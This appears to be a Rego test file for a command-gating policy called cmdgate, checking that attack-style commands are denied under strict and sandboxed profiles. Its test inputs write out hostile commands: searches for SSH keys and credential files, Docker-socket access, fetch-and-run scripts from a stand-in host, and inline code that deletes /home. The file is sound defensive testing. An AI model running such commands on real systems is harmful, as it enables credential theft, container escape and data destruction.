# The attack classes found by testing as an attacker, each in several forms, under both
# profiles.
package cmdgate.checks.attacks_test

import data.cmdgate.testlib as t

both(doc) := [t.decide_config(doc, {"profile": "strict"}), t.decide_config(doc, {"profile": "sandboxed"})]

denied_by(doc, rule) if {
	every d in both(doc) {
		d.action == "deny"
		rule in t.rules(d)
	}
}

test_secret_search if {
	every argv in [
		["find", "/", "-name", "id_rsa*"],
		["find", "/home", "-iname", ".env"],
		["find", "/", "-path", "*/.aws/*"],
		["find", "/etc", "/opt", "-regex", ".*\\.pem"],
		["fd", "-H", "id_ed25519", "/"],
		["locate", "credentials.json"],
	] {
		denied_by(t.script([argv]), "secrets.search")
	}

	# the workspace, and names that are no secret, are fine
	every argv in [["find", ".", "-name", "*.env"], ["find", "src", "-name", "*.key"], ["find", "/usr/include", "-name", "*.h"]] {
		every d in both(t.script([argv])) {
			not "secrets.search" in t.rules(d)
		}
	}
}

test_unix_sockets if {
	every argv in [
		["curl", "--unix-socket", "/var/run/docker.sock", "http://x/containers/json"],
		["curl", "--unix-socket=/run/podman/podman.sock", "http://d/v1/info"],
		["curl", "--abstract-unix-socket", "x", "http://x/"],
		["python3", "client.py", "/run/containerd/containerd.sock"],
		["make", "DOCKER=unix:///var/run/docker.sock"],
	] {
		denied_by(t.script([argv]), "network.unix_socket")
	}
	env := t.set(t.command(0, ["make", "deploy"]), {"env": {"DOCKER_HOST": "unix:///run/docker.sock"}})
	denied_by(t.doc([env]), "network.unix_socket")
	ssh := t.set(t.command(0, ["git", "status"]), {"env": {"SSH_AUTH_SOCK": "/tmp/agent.1"}})
	denied_by(t.doc([ssh]), "network.unix_socket")
}

# A program written in the request with text the policy cannot read, then run.
test_assembled_programs if {
	dyn := t.set(t.command(0, ["echo", "$PAYLOAD"]), {"redirects": [t.redirect(">", "x.py")]})
	denied_by(t.doc([dyn, t.command(1, ["python3", "x.py"])]), "escape.assembled_program")
	decoded := t.set(t.command(0, ["base64", "-d", "blob.txt"]), {"redirects": [t.redirect(">", "x.js")]})
	denied_by(t.doc([decoded, t.command(1, ["node", "x.js"])]), "escape.assembled_program")
	fetched := t.command(0, ["curl", "-o", "x.pl", "https://x.example/a.pl"])
	denied_by(t.doc([fetched, t.command(1, ["perl", "x.pl"])]), "escape.assembled_program")
}

# A program written in the request with readable text is checked like the inline form.
test_written_programs_checked_like_inline if {
	py := t.set(t.command(0, ["printf", "import os\\nos.system('id')"]), {"redirects": [t.redirect(">", "x.py")]})
	denied_by(t.doc([py, t.command(1, ["python3", "x.py"])]), "escape.interpreter_code")
	js := t.set(t.command(0, ["echo", "require('child_process').execSync('id')"]), {"redirects": [t.redirect(">", "a.js")]})
	denied_by(t.doc([js, t.command(1, ["node", "a.js"])]), "escape.interpreter_code")
	ok := t.set(t.command(0, ["echo", "print(1)"]), {"redirects": [t.redirect(">", "x.py")]})
	every d in both(t.doc([ok, t.command(1, ["python3", "x.py"])])) {
		not "escape.interpreter_code" in t.rules(d)
		not "escape.assembled_program" in t.rules(d)
	}
}

# Inline programs that do through their libraries what the forbidden list forbids.
test_inline_library_operations if {
	every argv in [
		["python3", "-c", "import shutil; shutil.rmtree('/home')"],
		["python3", "-c", "import subprocess; subprocess.run(['id'])"],
		["python3", "-c", "from urllib.request import urlopen; urlopen('http://x.example')"],
		["node", "-e", "require('child_process').execSync('id')"],
		["perl", "-e", "system('id')"],
		["ruby", "-e", "`id`"],
	] {
		every d in both(t.script([argv])) {
			d.action == "deny"
		}
	}
}
